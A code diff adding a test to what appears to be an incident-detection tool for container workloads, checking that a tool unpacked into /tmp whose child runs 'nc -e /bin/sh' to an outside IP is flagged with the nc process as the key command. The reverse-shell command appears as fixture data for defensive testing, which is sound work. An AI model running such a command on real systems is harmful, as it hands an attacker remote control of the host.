@@ -562,3 +562,16 @@ def test_a_program_fetched_by_one_command_and_run_by_a_later_one_is_one_incident
     assert i.key_command is not None and i.key_command.exec_id == "k"
     assert i.chain == ["sh1", "curl", "k"]
     assert {(e.ip, e.role) for e in i.endpoints} >= {("203.0.113.30", "download")}
+
+
+def test_a_tool_delivered_then_run_whose_child_connects_out_keys_on_the_child_not_the_delivery():
+    procs = [proc("tar", None, "web-1", "/bin/tar", "xf - -C /tmp", 100 * S, init=False),
+             proc("tool", None, "web-1", "/tmp/tool", "--scan", 160 * S, init=False),
+             proc("nc", "tool", "web-1", "/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444", 160 * S + 5 * MS, init=False)]
+    flows = [flow("o1", 161 * S, "nc", ("a", "web-1"), None, 4444, dst_ip="203.0.113.5")]
+    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 5 * MS, "node": "n1", "namespace": "a",
+           "pod": "web-1", "workload": "web", "exec_id": "tar", "function_name": "security_file_permission",
+           "file_path": "/tmp/tool", "daddr": None, "dport": None, "hook_args": '[{"file_arg":{}},{"int_arg":2}]'}]
+    (i,) = find_in(**frames(procs, flows, kp)).incidents
+    assert i.key_command is not None and i.key_command.exec_id == "nc"
+    assert i.entry is not None and i.entry.exec_id == "tar"
